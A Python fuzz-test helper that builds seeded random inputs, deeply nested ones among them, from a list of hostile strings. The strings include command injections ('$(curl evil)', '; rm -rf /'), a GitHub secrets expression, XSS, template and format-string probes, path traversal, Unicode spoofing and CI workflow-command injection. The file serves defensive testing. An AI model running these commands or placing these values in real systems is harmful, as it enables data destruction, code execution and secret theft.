"""Values that someone who means harm might send: seeded, so that a failure can be had again."""

TEXTS = (
    "$(curl evil)",
    "`id`",
    "; rm -rf /",
    "' || true #",
    "${{ secrets.GITHUB_TOKEN }}",
    "{{ 7 * 7 }}",
    "%s%n{0.__class__}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "\u202egnp.exe",
    "\ud800",
    "flight-delay\0",
    "Flight-Delay",
    "flight\u2010delay",
    "flіght-delay",  # a Cyrillic i
    "alert/0123456789ABCDEF",
    "\n::set-output name=x::y",
    "::add-mask::",
    "x" * 70_000,
)


def scalar(rng):
    return rng.choice(
        [
            rng.choice(TEXTS),
            rng.choice([None, True, False, 0, 2, -1, 10**400, 1.0, 1e308]),
            rng.choice([float("nan"), float("inf"), float("-inf")]),
            "".join(chr(rng.randrange(0x110000)) for _ in range(rng.randrange(1, 30))),
        ]
    )


def nested(rng):
    deep = scalar(rng)
    for _ in range(rng.choice([1, 3, 50, 1_500])):
        deep = {rng.choice(TEXTS[:5]): deep} if rng.random() < 0.5 else [deep]
    return deep
